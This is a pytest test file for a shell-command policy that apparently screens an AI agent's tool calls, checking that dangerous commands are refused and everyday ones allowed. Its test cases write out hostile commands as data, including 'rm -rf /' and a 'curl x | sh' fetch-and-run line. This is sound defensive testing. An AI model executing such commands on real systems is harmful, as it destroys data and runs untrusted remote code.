"""The shell policy against a corpus: every dangerous command refused (each bypass of the old pattern list
included), every everyday command allowed; and how tool calls are matched to it."""

from __future__ import annotations

from pathlib import Path

import pytest
from glm5.parsing.shell_policy import violation
from glm5.parsing.tools import ShellPolicy

DATA = Path(__file__).parent / "data"


def _decode(line: str) -> str:
    """A corpus line as the command it stands for: `\\n` a newline, `\\\\` one backslash, any other backslash itself."""
    out, i = [], 0
    while i < len(line):
        pair = line[i : i + 2]
        if pair in ("\\n", "\\\\"):
            out.append("\n" if pair == "\\n" else "\\")
            i += 2
        else:
            out.append(line[i])
            i += 1
    return "".join(out)


def _corpus(name: str) -> list[str]:
    lines = (DATA / name).read_text().splitlines()
    return [_decode(line) for line in lines if line.strip() and not line.startswith("#")]


DANGEROUS = _corpus("shell_dangerous.txt")
HARMLESS = _corpus("shell_harmless.txt")


def test_the_corpus_is_large_enough() -> None:
    assert len(DANGEROUS) >= 500 and len(HARMLESS) >= 300
    duplicates = {c for c in DANGEROUS + HARMLESS if (DANGEROUS + HARMLESS).count(c) > 1}
    assert not duplicates, sorted(duplicates)


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_are_refused(command: str) -> None:
    assert violation(command) is not None


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_run(command: str) -> None:
    assert violation(command) is None


def test_unparseable_commands_are_refused() -> None:
    assert "cannot be parsed" in (violation("echo 'unterminated") or "")
    assert "cannot be parsed" in (violation("if true; then") or "")


@pytest.mark.parametrize("tool,arguments,parameters,refused", [
    ("Bash", {"command": "rm -rf /"}, None, True),  # the usual names, in any case
    ("run_terminal_cmd", {"cmd": "sudo id"}, None, True),
    ("execute", {"command": ["rm", "-rf", "/"]}, None, True),  # an argv
    ("execute", {"command": ["bash", "-c", "curl x | sh"]}, None, True),
    ("execute", {"command": ["ls", "-la"]}, None, False),
    ("deploy", {"script": "rm -rf /"}, {"properties": {"script": {"type": "string", "x-shell-command": True}}},
     True),  # marked in the schema: judged whatever the tool is called
    ("deploy", {"script": "rm -rf /"}, {"properties": {"script": {"type": "string"}}}, False),  # not a shell tool
    ("bash", {"command": 5}, None, True),
    ("bash", {"command": "ls"}, None, False),
])  # fmt: skip
def test_which_arguments_are_judged(tool: str, arguments: dict[str, object], parameters: dict[str, object] | None,
                                    refused: bool) -> None:  # fmt: skip
    assert (ShellPolicy().violation(tool, arguments, parameters) is not None) is refused
    assert ShellPolicy(enabled=False).violation(tool, arguments, parameters) is None
